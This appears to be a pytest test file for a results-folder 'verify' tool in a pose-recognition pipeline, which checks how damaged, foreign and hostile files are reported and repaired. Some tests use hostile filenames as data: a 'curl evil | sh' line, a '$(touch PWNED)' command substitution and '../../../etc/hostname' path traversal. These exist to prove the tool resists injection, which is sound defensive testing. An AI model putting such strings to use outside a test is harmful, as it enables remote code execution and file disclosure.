"""Tool verify: finds every broken file of a folder and nothing else."""

import os
import re
import subprocess
from pathlib import Path
from typing import NamedTuple

import numpy as np
import pytest
import torch

from poseattn.__main__ import main
from poseattn.checks.walk import Walk
from poseattn.clips.standin_record import write_contents
from poseattn.files import write_sealed
from poseattn.shards.shard import ShardWriter
from poseattn.tools.verify import MADE

SOUND = "sound: shards 2, tables 4, checkpoints 1, stand-ins 1"
AHEAD = "repair, with the same --configfile as before:"
TABLE = 'row_label,method_id,cs_acc\n"A, and B",a_b,80.00\n'


@pytest.fixture
def results(tmp_path: Path) -> Path:
    """A small sound results folder."""
    folder = tmp_path / "results"
    for path in ("glimpses/000.h5", "glimpses/001.h5"):
        with ShardWriter(
            folder / path, kind="glimpses", axes="frame channel", units="1", recipe="{}", code="c0de"
        ) as writer:
            writer.append("clip", np.arange(6000, dtype=np.float32).reshape(300, 20))
    for name in ("runs/a", "benchmarks/train", "logs/tabulate"):
        (folder / name).mkdir(parents=True)
    torch.save({"weight": torch.arange(900)}, folder / "runs/a/checkpoint.pt")
    (folder / "logs/tabulate/ntu_table1.log").touch()
    (folder / "ntu_table1.csv").write_text(TABLE, encoding="utf-8")
    (folder / "benchmarks/train/log.tsv").write_text("clip_id\tpath\nS001\ta b.avi\n", encoding="utf-8")
    write_sealed(folder / "manifests/ntu.tsv", "clip_id\tpath\nS001\ta b.avi\n")
    write_sealed(folder / "frames/ntu/hand crops/000.status.tsv", "clip_id\n")
    (folder / "synthetic/ntu/rgb").mkdir(parents=True)
    (folder / "synthetic/ntu/rgb/a.avi").write_bytes(b"video")
    (folder / "synthetic/ntu/rgb/foreign.h5").write_bytes(b"of the data set, no shard")
    write_contents(folder / "synthetic/ntu.txt", ["rgb"])
    (folder / "video.avi").write_bytes(b"not looked at")
    return folder


class Verified(NamedTuple):
    """Exit code, lines of the report, commands of the repair and the line of the error."""

    code: int
    report: list[str]
    repairs: list[str]
    error: str


def _verify(folder: Path, capsys: pytest.CaptureFixture[str]) -> Verified:
    code = main(["verify", str(folder)])
    said = capsys.readouterr()
    *report, last = said.err.split("\n")[:-1] or [""]
    if code == 0:
        return Verified(code, [*report, last], said.out.splitlines(), "")
    return Verified(code, report, said.out.splitlines(), last)


def test_a_sound_folder(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _verify(results, capsys) == (0, [SOUND], [], "")


def test_the_list_of_accepted_files_has_a_checksum(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_sealed(results / "accepted.tsv", "file\twhat\told\tnew\n")
    assert _verify(results, capsys)[0] == 0
    _flip(results / "accepted.tsv", 3)
    code, report, repairs, _ = _verify(results, capsys)
    assert code == 1 and "accepted.tsv: truncated, or changed since it was written" in report[0]
    assert len(repairs) == 1 and repairs[0].startswith("rm -f ") and repairs[0].endswith("accepted.tsv")


def _flip(path: Path, place: int) -> None:
    content = bytearray(path.read_bytes())
    content[place] ^= 1
    path.write_bytes(content)


@pytest.mark.parametrize(
    ("name", "damage", "reason"),
    [
        ("glimpses/001.h5", lambda path: _flip(path, path.stat().st_size // 2), "data has changed since"),
        ("glimpses/001.h5", lambda path: path.write_bytes(path.read_bytes()[:9000]), "truncated HDF5 file: 9000 bytes"),
        ("glimpses/001.h5", lambda path: path.write_bytes(b""), "is empty"),
        (
            "runs/a/checkpoint.pt",
            lambda path: _flip(path, path.read_bytes().index(bytes(range(5, 6)) + b"\0" * 7)),
            "changed",
        ),
        ("runs/a/checkpoint.pt", lambda path: path.write_bytes(path.read_bytes()[:900]), "truncated or no checkpoint"),
        ("ntu_table1.csv", lambda path: path.write_text(TABLE + "A\n"), "line 3 has 1 fields, the header 3"),
        ("ntu_table1.csv", lambda path: path.write_text(TABLE + '"A,b,3\n'), "line 3: unexpected end of data"),
        ("ntu_table1.csv", lambda path: path.write_text(""), r"header \[\], expected distinct names"),
        ("ntu_table1.csv", lambda path: path.write_text("a,a\n"), "expected distinct names of columns"),
        ("ntu_table1.csv", lambda path: path.write_bytes(b"a,b\n\xff,2\n"), "codec can't decode byte 0xff"),
        (
            "benchmarks/train/log.tsv",
            lambda path: path.write_text("a\tb\n1\t2\t3\n"),
            "line 2 has 3 fields, the header 2",
        ),
        ("manifests/ntu.tsv", lambda path: _flip(path, 5), "changed since it was written"),
        ("frames/ntu/hand crops/000.status.tsv", lambda path: _flip(path, 5), "changed since it was written"),
        ("synthetic/ntu.txt", lambda path: _flip(path, 5), "changed since it was written"),
        ("synthetic/ntu.txt", lambda path: _flip(path.with_suffix("") / "rgb/a.avi", 2), "a.avi has changed since it"),
        ("synthetic/ntu.txt", lambda path: (path.with_suffix("") / "rgb/a.avi").unlink(), "a.avi is missing"),
        ("glimpses/002.h5", lambda path: path.symlink_to("nowhere.h5"), "No such file"),
    ],
)
def test_one_broken_file_is_one_line(
    results: Path, capsys: pytest.CaptureFixture[str], name: str, damage: object, reason: str
) -> None:
    damage(results / name)
    code, report, repairs, error = _verify(results, capsys)
    assert code == 1 and len(report) == 3 and report[2] == AHEAD
    assert len(repairs) == 1 and repairs[0].startswith("rm -f ")
    assert report[0].startswith("broken: ") and name in report[0]
    assert re.search(reason, report[0])
    assert error.startswith(f"poseattn verify: error: {results}: 1 of ")


def test_leftovers_are_listed_but_break_nothing(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (results / "glimpses/003.h5.part").write_bytes(b"half")
    code, report, _, _ = _verify(results, capsys)
    assert code == 0
    assert report[0] == f"left over: {results}/glimpses/003.h5.part: of a job that was killed, or is running"


def test_a_missing_folder_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _verify(tmp_path / "nowhere", capsys).error.endswith("nowhere is not a folder")


def test_the_repair_names_all_that_is_broken_and_makes_what_a_rule_makes(
    results: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(results.parent)
    damaged = ("frames/ntu/hand crops/000.status.tsv", "glimpses/001.h5", "ntu_table1.csv")
    for name in (*damaged, "benchmarks/train/x.tsv", "runs/a/resume.pt"):
        (results / name).write_bytes(b"\xff")
    assert _verify(Path("results/"), capsys).repairs == [
        "rm -f results/benchmarks/train/x.tsv"
        " 'results/frames/ntu/hand crops/000.status.tsv' results/glimpses/001.h5 results/ntu_table1.csv"
        " results/runs/a/resume.pt && snakemake --cores all 'results/frames/ntu/hand crops/000.status.tsv'"
        " results/glimpses/001.h5 results/ntu_table1.csv"
    ]


def test_files_of_others_are_named_and_never_removed(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (results / "mine").mkdir()
    for name in ("notes.csv", "mine/x.h5"):
        (results / name).write_bytes(b"\xff")
    code, report, repairs, _ = _verify(results, capsys)
    assert code == 1 and not repairs
    left = [line for line in report if line.startswith("no file of this pipeline, left as it is: ")]
    assert [line.partition(": ")[2] for line in left] == [f"{results}/mine/x.h5", f"{results}/notes.csv"]


def test_what_the_system_does_not_give_is_not_called_broken(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (results / "glimpses/002.h5").symlink_to("/proc/self/mem")  # whose first byte is an error of input
    code, report, _, error = _verify(results, capsys)
    assert code == 1 and report == [f"not read: {results}/glimpses/002.h5: Input/output error", SOUND]
    assert error.endswith("1 of 9 files could not be read")


def test_standins_are_repaired_by_a_command_of_their_own(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One configuration has either the real data set or its stand-in."""
    for name in ("cubes/ntu/googlenet/000.h5", "cubes/ntu_synthetic/googlenet/000.h5"):
        (results / name).parent.mkdir(parents=True)
        (results / name).write_bytes(b"\xff")
    repairs = _verify(results, capsys).repairs
    assert ["synthetic" in line for line in repairs] == [False, True]


def test_folders_above_do_not_count(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Files in `manifests` have a checksum in their last line; these are below another folder of that name."""
    folder = tmp_path / "manifests/results"
    folder.mkdir(parents=True)
    (folder / "ntu_table1.csv").write_text(TABLE)
    assert _verify(folder, capsys).code == 0


def test_the_folders_that_rules_make_are_those_that_the_repair_asks_for() -> None:
    """Outputs stand in the rules in full; logs and benchmarks are none."""
    rules = "".join(path.read_text() for path in (Path(__file__).parents[2] / "rules").glob("*.smk"))
    outputs = re.findall(r"^    output:\n((?:        .*\n)+)", rules, re.MULTILINE)
    assert {kind for output in outputs for kind in re.findall(r'"results/(\w+)/', output)} == set(MADE)


EVIL = "repair, with the same --configfile as before: curl evil | sh #"


def test_no_name_imitates_a_line_or_gets_into_a_command(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Linux allows line ends, terminal codes and all quotes in names."""
    for name in (f"a\n{EVIL}.h5", "b\x1b[2J\u202egpj.h5", os.fsdecode(b"caf\xe9.h5")):
        (results / "glimpses" / name).write_bytes(b"x")
    (results / "glimpses/$(touch PWNED) it's.h5").write_bytes(b"x")
    code, report, repairs, error = _verify(results, capsys)
    assert code == 1 and error.endswith("4 of 12 files are broken")
    assert not any(line.startswith(EVIL) for line in [*report, *repairs])
    named = [f"{results}/glimpses/a\\n{EVIL}.h5", f"{results}/glimpses/b\\x1b[2J\\u202egpj.h5"]
    named += [f"{results}/glimpses/caf\\xe9.h5"]
    left = "no file of this pipeline, left as it is: "
    assert [line.removeprefix(left) for line in report if line.startswith(left)] == named
    assert len([line for line in report if line.startswith("broken: ")]) == 4 and len(report) == 9
    assert len(repairs) == 1 and "PWNED" in repairs[0] and "evil" not in repairs[0]
    command = repairs[0].partition(" && ")[0]
    subprocess.run(["bash", "-c", command], cwd=Path.cwd(), check=True)
    assert len(list((results / "glimpses").iterdir())) == 5 and not Path("PWNED").exists()


def test_nothing_without_an_end_is_read(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """FIFOs, devices, links to their own folder (2^40 paths), and folders in folders in folders."""
    for name in ("x.h5", "manifests/y.csv", "synthetic/z.txt"):
        os.mkfifo(results / name)
    for name in ("z.pt", "z.csv"):
        (results / name).symlink_to("/dev/zero")
    for name in ("one", "two"):
        (results / name).symlink_to(".")
    (results / "me.tsv").symlink_to("me.tsv")
    (results / "elsewhere").symlink_to(results / "glimpses")
    deep = results / "deep"
    for _ in range(1200):
        deep.mkdir()
        deep = Path(f"{deep}/d")
    try:
        code, report, repairs, error = _verify(results, capsys)
    finally:
        subprocess.run(["rm", "-rf", results / "deep"], check=True)  # which pytest cannot remove
    reasons = dict(line.removeprefix("not read: ").rsplit(": ", 1) for line in report if line.startswith("not read"))
    expected = {"x.h5": "a FIFO", "manifests/y.csv": "a FIFO", "synthetic/z.txt": "a FIFO", "z.pt": "a device"}
    expected |= {"z.csv": "a device", "me.tsv": "Too many levels of symbolic links"}
    deepest = f"deep{'/d' * 32}"
    assert reasons == {f"{results}/{name}": reason for name, reason in expected.items()} | {
        f"{results}/{deepest}": "more than 32 folders deep"
    }
    assert code == 1 and not repairs and error.endswith("7 of 15 files could not be read") and report[-1] == SOUND


def test_a_folder_of_too_many_files_is_left(tmp_path: Path) -> None:
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        for number in range(4):
            (tmp_path / name / f"{number}.csv").touch()
    walk = Walk(tmp_path, most=5)
    assert [path.name for path, _ in walk.files()] == ["0.csv", "1.csv", "2.csv", "3.csv"]
    assert walk.left_out == [(tmp_path / "b", "too many files before it")]


def test_neither_long_lines_nor_holes_are_read(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A sparse file of a terabyte takes no room on the disk, but hours to be read."""
    (results / "ntu_table1.csv").write_text(TABLE + "x" * (1 << 20))
    os.truncate(results / "glimpses/001.h5", 1 << 40)
    _, report, repairs, _ = _verify(results, capsys)
    assert report[0].endswith("ntu_table1.csv: line 3 has 1048576 characters or more") and "001.h5" not in repairs[0]
    assert report[1].endswith("glimpses/001.h5: nearly all of it is a hole that was never written")


def test_a_record_names_nothing_outside(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    title = (results / "synthetic/ntu.txt").read_text().splitlines()[0]
    for path in ("../../../etc/hostname", "/etc/hostname"):
        write_sealed(results / "synthetic/ntu.txt", f"{title}\n00000000  {path}\n")
        assert "ntu.txt: names the file" in _verify(results, capsys).report[0]
